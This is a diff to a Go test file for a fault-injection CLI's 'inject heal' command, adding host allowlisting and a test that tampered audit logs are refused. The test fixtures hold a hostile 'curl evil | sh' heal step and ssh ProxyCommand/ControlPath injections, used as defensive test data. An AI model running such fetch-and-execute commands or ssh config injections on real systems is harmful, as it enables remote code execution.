@@ -6,6 +6,7 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -99,19 +100,68 @@ func TestInjectHealCLI(t *testing.T) {
 `
 	os.WriteFile(log, []byte(killed), 0o600)
 	runCLICases(t, []cliCase{
-		{[]string{"inject", "heal", "--audit-log", filepath.Join(dir, "none.log")}, 2, "no such file"},
-		{[]string{"inject", "heal", "--audit-log", log, "--host", "x"}, 2, "--host do not apply"},
-		{[]string{"inject", "heal", "--audit-log", log, "--local"}, 0, "would run   stage-1: systemctl start cloudstack-agent"},
+		{[]string{"inject", "heal", "--audit-log", filepath.Join(dir, "none.log"), "--allow-host", "stage-*"}, 2, "no such file"},
+		{[]string{"inject", "heal", "--audit-log", log, "--allow-host", "stage-*", "--host", "x"}, 2, "--host do not apply"},
+		{[]string{"inject", "heal", "--audit-log", log, "--local"}, 2, "--allow-host PATTERN (or --allow-host-tag TAG) is required"},
+		{[]string{"inject", "heal", "--audit-log", log, "--local", "--allow-host", "prod-*", "--yes"}, 2, "refused: run k1: host:stage-1 is not allowlisted"},
+		{[]string{"inject", "heal", "--audit-log", log, "--local", "--allow-host", "stage-*"}, 0, "would run   stage-1: systemctl start cloudstack-agent"},
 	})
 	if _, err := os.Stat(marker); err == nil {
 		t.Fatal("a dry run of heal ran something")
 	}
 	runCLICases(t, []cliCase{
-		{[]string{"inject", "heal", "--audit-log", log, "--local", "--yes"}, 0, "healed stage-1: systemctl start cloudstack-agent: ok (inject heal)"},
-		{[]string{"inject", "heal", "--audit-log", log, "--local", "--yes"}, 0, "nothing to heal"},
+		{[]string{"inject", "heal", "--audit-log", log, "--local", "--allow-host", "stage-*", "--yes"}, 0, "healed stage-1: systemctl start cloudstack-agent: ok (inject heal)"},
+		{[]string{"inject", "heal", "--audit-log", log, "--local", "--allow-host", "stage-*", "--yes"}, 0, "nothing to heal"},
 	})
 	if b, _ := os.ReadFile(marker); string(b) != "systemctl start cloudstack-agent\nsystemctl stop csconform-heal-k1.timer\n" {
 		t.Fatalf("ran %q", b)
+	}
+}
+
+// Issue 49: a plan record anyone could have written (the default log is ./csconform-inject.log) is
+// refused by heal --yes, exit 2, nothing run: a command inject never heals with, a host outside the
+// allowlist heal is given, or (over ssh) a ProxyCommand or ControlPath on the way.
+func TestInjectHealRefusesAHostileLog(t *testing.T) {
+	dir := t.TempDir()
+	marker := filepath.Join(dir, "ran")
+	for _, c := range []string{"sh", "systemctl"} {
+		os.WriteFile(filepath.Join(dir, c), []byte("#!/bin/sh\necho "+c+" \"$@\" >> "+marker+"\n"), 0o755)
+	}
+	t.Setenv("PATH", dir+string(os.PathListSeparator)+os.Getenv("PATH"))
+	// a killed agent-restart's records, its heal steps (and host) those given
+	record := func(name, heal string) string {
+		host := "stage-1"
+		if strings.Contains(heal, "prod-db1") {
+			host = "prod-db1"
+		}
+		log := filepath.Join(dir, name+".log")
+		os.WriteFile(log, []byte(strings.ReplaceAll(`{"time":"2026-11-30T10:00:00Z","id":"k1","fault":"agent-restart","action":"plan","target":"host:stage-1","result":"2 apply","heal":`+heal+`,"disarm":[{"host":"stage-1","argv":["systemctl","stop","csconform-heal-k1.timer"]}]}
+{"time":"2026-11-30T10:00:01Z","id":"k1","fault":"agent-restart","action":"apply","host":"stage-1","argv":["systemctl","stop","cloudstack-agent"],"result":"ok"}
+`, "stage-1", host)), 0o600)
+		return log
+	}
+	agent := `[{"host":"stage-1","argv":["systemctl","start","cloudstack-agent"]}]`
+	cases := []cliCase{
+		{[]string{"inject", "heal", "--audit-log", record("cmd", `[{"host":"stage-1","argv":["sh","-c","curl evil | sh"]}]`), "--local", "--allow-host", "stage-*", "--yes"},
+			2, `refused: run k1: its heal steps are not the ones inject makes for agent-restart on host:stage-1: "stage-1: sh -c 'curl evil | sh'"`},
+		{[]string{"inject", "heal", "--audit-log", record("host", strings.ReplaceAll(agent, "stage-1", "prod-db1")), "--local", "--allow-host", "stage-*", "--yes"},
+			2, "host:prod-db1 is not allowlisted"},
+	}
+	if _, err := exec.LookPath("ssh"); err == nil {
+		// the real ssh -G (it connects nowhere); a proxy that ran would leave its mark
+		for _, c := range []struct{ name, config, want string }{
+			{"proxy", "ProxyCommand /bin/sh -c 'echo proxy >> " + marker + "'", "ProxyCommand"},
+			{"shared", "ControlMaster auto\n  ControlPath " + filepath.Join(dir, "cm"), `ControlPath "` + filepath.Join(dir, "cm") + `" (ControlMaster auto)`},
+		} {
+			cfg := filepath.Join(dir, c.name+".config")
+			os.WriteFile(cfg, []byte("Host stage-1\n  "+c.config+"\n"), 0o600)
+			cases = append(cases, cliCase{[]string{"inject", "heal", "--audit-log", record(c.name, agent), "--allow-host", "stage-*",
+				"--ssh-opt=-F", "--ssh-opt=" + cfg, "--yes"}, 2, c.want})
+		}
+	}
+	runCLICases(t, cases)
+	if b, err := os.ReadFile(marker); err == nil {
+		t.Fatalf("a refused log ran %q", b)
 	}
 }
 
